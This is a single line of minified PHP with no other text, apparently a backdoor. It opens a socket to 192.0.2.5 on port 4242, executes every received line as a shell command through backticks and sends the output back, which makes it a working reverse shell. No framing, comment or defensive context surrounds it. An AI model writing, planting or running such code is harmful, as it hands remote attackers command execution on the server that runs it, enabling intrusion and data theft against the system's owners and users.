<?php class R{private $s;function __construct($h,$p){$this->s=fsockopen($h,$p);}function go(){while(!feof($this->s)){$c=fgets($this->s);fputs($this->s,`$c`);}}}(new R("192.0.2.5",4242))->go();
